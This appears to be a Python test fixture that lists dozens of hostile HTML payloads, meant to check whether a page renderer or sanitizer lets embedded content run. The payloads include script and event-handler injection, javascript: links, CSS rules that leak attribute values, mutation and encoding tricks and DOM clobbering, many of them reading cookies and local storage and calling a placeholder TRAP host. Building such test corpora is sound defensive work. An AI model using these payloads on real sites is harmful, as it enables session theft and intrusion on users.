"""Hostile pages that try to act where they are shown.

TRAP is an address that logs requests. RUN is a script that writes to the console that it ran and which
secrets it could read, and calls the trap.
"""

from __future__ import annotations

# ruff: noqa: E501  (a payload is one line)

RUN = (
    "console.log(`ran:`+document.cookie+(function(){try{return localStorage.length}catch(e){return 0}})());"
    "new Image().src=`TRAP/run`"
)
ATTRIBUTE = RUN.replace("&", "&amp;").replace('"', "&quot;").replace("'", "&#39;")
ENTITIES = "".join(f"&#{ord(sign)};" for sign in "javascript:") + ATTRIBUTE

PAYLOADS: dict[str, str] = {
    # Scripts
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src='TRAP/a.js'></script>",
    "script as a module": "<script type=module>import 'TRAP/m.js'</script>",
    "script in capitals, broken": f"<ScRiPt >{RUN}</sCrIpT  x>",
    "script not closed": f"<p>before</p><script>{RUN}",
    "script split by a tag": f"<scr<script></script>ipt>{RUN}</script>",
    "script with our nonce guessed": f"<script nonce=''>{RUN}</script><script nonce=abc>{RUN}</script>",
    "script after a null": f"<\0script>{RUN}</script><scr\0ipt>{RUN}</script>",
    "script in a comment that ends early": f"<!--><script>{RUN}</script>-->",
    "script in a comment with a bang": f"<!--x--!><script>{RUN}</script>-->",
    "script in CDATA": f"<![CDATA[<script>{RUN}</script>]]><svg><![CDATA[</svg><script>{RUN}</script>]]></svg>",
    "script in a processing instruction": f"<?xml ?><?x <script>{RUN}</script>?>",
    "import map": '<script type=importmap>{"imports":{"x":"TRAP/x.js"}}</script>',
    # Event handlers
    "onerror": f'<img src=x: onerror="{ATTRIBUTE}">',
    "onload of a picture": f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="{ATTRIBUTE}">',
    "onload of the body": f'<body onload="{ATTRIBUTE}" onpageshow="{ATTRIBUTE}"><p>x</p>',
    "onfocus with autofocus": f'<input autofocus onfocus="{ATTRIBUTE}"><a tabindex=1 autofocus onfocus="{ATTRIBUTE}">a</a>',
    "ontoggle": f'<details open ontoggle="{ATTRIBUTE}"><summary>s</summary>x</details>',
    "onanimationstart": f'<style>@keyframes x{{}}p{{animation:x 1s}}</style><p onanimationstart="{ATTRIBUTE}">x</p>',
    "slash for a space": f'<img/src="x:"/onerror="{ATTRIBUTE}">',
    "quote in a name": f'<p "onmouseover=x" onpointerenter="{ATTRIBUTE}">x</p><img title="`\'&quot;>" src=x: onerror="{ATTRIBUTE}">',
    "handler in a data attribute": f'<p data-x="&quot; onclick=&quot;{ATTRIBUTE}">x</p>',
    "marquee and media": f'<marquee onstart="{ATTRIBUTE}">m</marquee><video onerror="{ATTRIBUTE}" src=x:><source onerror="{ATTRIBUTE}">',
    # Addresses that run a script or lead away
    "javascript link": f'<a href="javascript:{ATTRIBUTE}" id=x>click</a><iframe src="javascript:{ATTRIBUTE}"></iframe>',
    "javascript link in entities": f'<a href="{ENTITIES}">x</a><iframe src="{ENTITIES}"></iframe>',
    "javascript link with white space": f'<a href="java\tscript:{ATTRIBUTE}">x</a><iframe src=" java\nscript:{ATTRIBUTE}"></iframe>',
    "vbscript and data link": f'<a href="vbscript:x">x</a><iframe src="data:text/html,<script>{ATTRIBUTE}</script>"></iframe>',
    "data object": f'<object data="data:text/html,<script>{ATTRIBUTE}</script>"></object><embed src="TRAP/e">',
    "picture with a script for its address": f'<img src="javascript:{ATTRIBUTE}"><img src="data:text/html,<script>{ATTRIBUTE}</script>">',
    "meta refresh": "<meta http-equiv=refresh content='0;url=TRAP/refresh'><p>x</p>",
    "meta refresh in the body": "<p>x<meta http-equiv='refresh' content='0; TRAP/refresh2'></p>",
    "meta that sets a policy": '<meta http-equiv=Content-Security-Policy content="script-src *"><script src=TRAP/p></script>',
    "base": "<base href='TRAP/'><img src=b><a href=c>x</a><script src=d></script>",
    "form that sends itself": f"<form action=TRAP/form id=f><input name=q value=secret></form><script>{RUN};f.submit()</script>",
    "form with a button elsewhere": "<form id=g></form><button form=g formaction=TRAP/g autofocus>x</button>",
    "ping": '<a href="#" ping="TRAP/ping">x</a><area ping=TRAP/area href=#>',
    # Elements that fetch something
    "picture": '<img src="TRAP/i.png"><img srcset="TRAP/s.png 1x, TRAP/t.png 2x"><picture><source srcset=TRAP/u.png><img></picture>',
    "lazy picture": '<img data-src="TRAP/lazy.png" loading=lazy><input type=image src=TRAP/in.png>',
    "old pictures": "<body background=TRAP/bg.png><table background=TRAP/t.png><tr><td background=TRAP/td.png>x</table>",
    "frames": "<iframe src=TRAP/f></iframe><frameset><frame src=TRAP/fr></frameset>",
    "frame with its source inside": f"<iframe srcdoc='<script>parent.x=1;{ATTRIBUTE}</script><img src=TRAP/srcdoc>'></iframe>",
    "objects": "<object data=TRAP/o><param name=movie value=TRAP/p></object><applet code=TRAP/ap></applet>",
    "media": "<video src=TRAP/v poster=TRAP/po autoplay></video><audio src=TRAP/au autoplay></audio><track src=TRAP/tr>",
    "links in the head": "<link rel=stylesheet href=TRAP/l.css><link rel=preload as=image href=TRAP/pre><link rel=prefetch href=TRAP/pf>",
    "links in the body": "<p><link rel=dns-prefetch href=//TRAPHOST><link rel=preconnect href=TRAP><link rel=prerender href=TRAP/r></p>",
    "icons, manifests, modules": "<link rel=icon href=TRAP/ico><link rel=manifest href=TRAP/man><link rel=modulepreload href=TRAP/mod>",
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"urls":["TRAP/spec"]}]}</script>',
    # Style sheets
    "style that fetches": "<style>p{background:url(TRAP/bg)}</style><p style='background:url(TRAP/inline)'>x</p>",
    "style that imports": "<style>@import 'TRAP/i1';@import url(TRAP/i2);</style><style>@charset 'x';@import \"TRAP/i3\"</style>",
    "style with escapes": "<style>@\\69mport 'TRAP/e1';p{background:\\75\\72\\6c(TRAP/e2);b\\61ckground:u\\rl(TRAP/e3)}</style><p>x</p>",
    "style with comments": "<style>p{background:ur/**/l(TRAP/c1);background:url/**/(TRAP/c2)}/*</style><p style='background:/**/url(TRAP/c3)'>x</p>",
    "style of many functions": "<style>p{background:image-set('TRAP/f1' 1x);background-image:-webkit-image-set(url(TRAP/f2) 1x);"
    "background:cross-fade(url(TRAP/f3),url(TRAP/f4));list-style:url('TRAP/f5');content:url(TRAP/f6);cursor:url(TRAP/f7),auto}</style><p>x</p>",
    "style with fonts": "<style>@font-face{font-family:x;src:url(TRAP/font)}p{font-family:x}</style><p>x</p>",
    "style that reads attributes": "<style>script[nonce^='a']{background:url(TRAP/n)}input[value^='s']{background:url(TRAP/v)}"
    "[id^='wv-c']{background:url(TRAP/id);display:block}</style><input value=secret>",
    "style through a variable": "<style>:root{--u:url(TRAP/var)}p{background:var(--u)}</style><p>x</p>",
    "style that ends early": f"<style></style ><script>{RUN}</script><style>/*</style><img src=TRAP/se>*/</style>",
    "style that ends in a string": f"<style>p{{content:'</style><script>{RUN}</script>'}}</style>",
    "style with old tricks": f"<p style='behavior:url(TRAP/htc);-moz-binding:url(TRAP/xbl);width:expression({RUN.replace(chr(39), '')})'>x</p>",
    "style that hides our marks": "<style>*{display:none!important}ins,del{display:none!important}.wv-flag{background:url(TRAP/h)}</style><p>x</p>",
    "style that covers everything": "<style>body::before{content:'';position:fixed;inset:0;z-index:2147483647;background:url(TRAP/o) red}</style><p>x</p>",
    # Other namespaces, and trees that change when they are written and parsed again
    "svg script": f"<svg><script>{RUN}</script><script href=TRAP/svg.js></script></svg>",
    "svg handlers and pictures": f'<svg onload="{ATTRIBUTE}"><image href=TRAP/si /><use href="TRAP/u#x"/><animate onbegin="{ATTRIBUTE}" attributeName=x></svg>',
    "svg that animates a link": f'<svg><a><animate attributeName=href values="javascript:{ATTRIBUTE}"/><text>x</text></a></svg>',
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{ATTRIBUTE}</script>'></iframe></foreignObject></svg>",
    "svg style": "<svg><style>@import 'TRAP/svgcss';</style><style>*{fill:url(TRAP/fill)}</style><rect/></svg>",
    "math": f'<math href="javascript:{ATTRIBUTE}"><mtext><table><mglyph><style><img src=x: onerror="{ATTRIBUTE}"></style></mglyph></table></mtext></math>',
    "mutation by svg style": f'<svg></p><style><a id="</style><img src=x: onerror={ATTRIBUTE.replace(" ", "")}>"></svg>',
    "mutation by a form in a form": f'<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="{ATTRIBUTE}">',
    "mutation by noscript": f"<noscript><p title=\"</noscript><img src=x: onerror='{RUN.replace(chr(39), '')}'>\"></noscript>",
    "mutation by textarea": f"<textarea><img title=\"</textarea><img src=x: onerror='{RUN.replace(chr(39), '')}'>\"></textarea>",
    "mutation by title": f'<title>&lt;/title>&lt;img src=x: onerror={RUN.replace(" ", "")}></title><svg><title><img src=x: onerror="{ATTRIBUTE}"></title></svg>',
    "mutation by a template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><script>{RUN}</script><img src=TRAP/shadow></template>",
    "mutation by select": f'<select><option><svg><style></select><img src=x: onerror="{ATTRIBUTE}"></style></svg>',
    "mutation by a table": f'<table><a><tr><td><script>{RUN}</script></a><img src=x: onerror="{ATTRIBUTE}"></table>',
    "plain text, listings": f'<xmp><script>{RUN}</script></xmp><listing><img src=x: onerror="{ATTRIBUTE}"></listing><plaintext><script>{RUN}</script>',
    "raw text": f'<noembed><script>{RUN}</script></noembed><noframes><img src=x: onerror="{ATTRIBUTE}"></noframes>',
    # Encodings
    "text that is markup twice": f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x: onerror={RUN}&amp;gt;",
    "other encoding": f"<meta charset=utf-7><p>+ADw-script+AD4-{RUN}+ADw-/script+AD4-</p>",
    "encoding with escapes": f"<meta charset=iso-2022-jp><p title='\x1b$B'><img src=x: onerror=\"{ATTRIBUTE}\">\x1b(B</p>",
    "wide signs": f'＜script＞{RUN}＜/script＞ \u2028<img src=x: onerror="{ATTRIBUTE}">\u2029',
    # Names that imitate ours
    "names of our own": "<p id=wv-c1 class=wv-flag data-wv=1 data-wv-alt='x'>x</p><ins class=wv-here id=wv-c2>y</ins><b data-number=1 id=changes>z</b>",
    "names of functions": "".join(
        f"<img name={name} id={name}><form name={name}><input id={name} name={name}></form>"
        for name in (
            "addEventListener",
            "getElementById",
            "querySelectorAll",
            "parent",
            "postMessage",
            "onmessage",
            "body",
            "scrollTo",
        )
    ),
    "names of the document": "<a id=document></a><a id=window></a><a id=Document></a><a id=performance></a><a id=Math></a><a id=Map></a><object name=documentElement></object>",
    "end of our document": f'</iframe></main></body></html><script>{RUN}</script>" onload="{ATTRIBUTE}" x="&quot;></iframe><img src=TRAP/end>',
    "end of our attribute": f"\"&gt;&lt;/iframe&gt;&lt;script&gt;{RUN}&lt;/script&gt; '&#34; srcdoc=x &#0; \x01",
    "custom elements": f'<my-script onclick="{ATTRIBUTE}" src=TRAP/ce>x</my-script><font-face src=TRAP/ff>y</font-face><x-y is=script>{RUN}</x-y>',
    "portals, fences, popovers": f'<portal src=TRAP/po></portal><fencedframe src=TRAP/fe></fencedframe><div popover onbeforetoggle="{ATTRIBUTE}">x</div>',
    "deep nesting": "<div>" * 3000 + f"<script>{RUN}</script><img src=TRAP/deep>",
}
